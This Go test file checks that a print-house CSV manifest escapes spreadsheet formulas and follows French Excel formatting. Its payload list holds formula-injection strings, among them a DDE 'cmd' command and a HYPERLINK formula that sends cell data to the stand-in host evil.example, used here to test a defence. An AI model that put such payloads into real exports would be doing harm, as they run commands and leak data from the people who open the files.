package noticerun_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/citejardins/extranet/shared/notice"
	"github.com/citejardins/extranet/shared/noticerun"
	"github.com/citejardins/extranet/shared/tenancy"
)

// The manifest is opened in a spreadsheet at the print house: ERP text
// that starts a formula ("+", "-" pass the import's safetext rule; the
// others are there in case) reaches its cell after an apostrophe, and the
// text is otherwise kept.
func TestManifestCellsStartNoFormula(t *testing.T) {
	payloads := []string{
		"-2+3+cmd|' /C calc'!A0",
		`+HYPERLINK("http://evil.example/?d="&B2,"Voir")`,
		"-1+1",
		"=1+1",
		"@SUM(1)",
		"\t=1+1",
		"\r=1+1",
		"\u200b=1+1",
		"\u202e+1",
		" ＝1+1",
		"＋1", "－1", "＠SUM(1)",
	}
	for _, p := range payloads {
		n := notice.Notice{Reference: p, Recipients: []string{p + " N'DIAYE", "Abdou"},
			Address: tenancy.Address{Street: p, Complement: p, PostalCode: p, City: p}}
		rows, err := noticerun.ReadManifest(noticerun.Manifest([]notice.Notice{n}))
		if err != nil || len(rows) != 2 {
			t.Fatalf("manifest of %q: %d rows, %v", p, len(rows), err)
		}
		for i, cell := range rows[1][1:] {
			if i == 1 { // the printed reference is the portal's own
				continue
			}
			// (encoding/csv writes a CR inside a value as nothing under UseCRLF.)
			if !strings.HasPrefix(cell, "'") || !strings.HasPrefix(cell[1:], strings.ReplaceAll(p, "\r", "")) {
				t.Errorf("payload %q: manifest cell %d is %q; want it after an apostrophe", p, i+1, cell)
			}
		}
	}
}

// The manifest is for Excel in France: a byte order mark, ";" between
// values, CRLF, accents as UTF-8, ordinary text as is.
func TestManifestIsForFrenchExcel(t *testing.T) {
	ns := []notice.Notice{
		{Reference: "1234567", Recipients: []string{"Céline LEFÈVRE", "Julien LEFÈVRE"},
			Address: tenancy.Address{Street: "12 rue des Lilas", Complement: "Bât. B; esc. 2", PostalCode: "93300", City: "Aubervilliers"}},
		{Reference: "7654321", Recipients: []string{"Abdou N'DIAYE"},
			Address: tenancy.Address{Street: "3 allée \"Les Pins\"", PostalCode: "93200", City: "Saint-Denis"}},
	}
	raw := noticerun.Manifest(ns)
	if !bytes.HasPrefix(raw, []byte("\xef\xbb\xbfordre;reference;reference_imprimee;destinataires;adresse;complement;code_postal;ville\r\n")) {
		t.Errorf("manifest starts %q; want a BOM and the header with \";\" and CRLF", raw[:min(len(raw), 100)])
	}
	if !bytes.Contains(raw, []byte("\r\n1;1234567;L/0001234567;Céline LEFÈVRE / Julien LEFÈVRE;12 rue des Lilas;\"Bât. B; esc. 2\";93300;Aubervilliers\r\n")) {
		t.Errorf("manifest =\n%s\nwant LEFÈVRE's line as is, the complement quoted", raw)
	}
	rows, err := noticerun.ReadManifest(raw)
	if err != nil || len(rows) != 3 || rows[2][0] != "2" || rows[2][4] != `3 allée "Les Pins"` {
		t.Errorf("rows = %q, %v", rows, err)
	}
}
